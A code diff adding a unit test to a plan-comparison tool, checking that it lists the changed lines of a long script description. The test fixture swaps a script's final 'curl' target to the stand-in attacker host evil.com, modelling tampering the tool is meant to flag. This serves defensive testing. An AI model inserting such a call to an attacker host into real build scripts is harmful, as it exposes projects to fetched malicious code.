@@ -87,6 +87,25 @@ describe("differences between plans", () => {
     expect(stepDifferences(before, [...before].reverse())).toEqual([]);
   });
 
+  it("show the lines of long texts that differ", () => {
+    const text = (host: string) => JSON.stringify(`set -e\nnpm ci\nnpm test\ncurl https://${host}/x\n`);
+    const update = (before: string, after: string) => [
+      step("groups/A", { operation: "update", changes: change(text(before), text(after)) }),
+    ];
+    expect(
+      stepDifferences(update("a.example.com", "b.example.com"), update("a.example.com", "evil.com")),
+    ).toEqual([
+      "Differences from the approved plan:",
+      "  ~ update Group groups/A",
+      "      description, after (- approved, + now):",
+      "          set -e",
+      "          npm ci",
+      "          npm test",
+      "        - curl https://b.example.com/x",
+      "        + curl https://evil.com/x",
+    ]);
+  });
+
   it("ignore keyed fingerprints, and count what is too long to list", () => {
     const secret = (text: string) => [
       step("variables/T", { operation: "update", changes: change("[secret]", text) }),
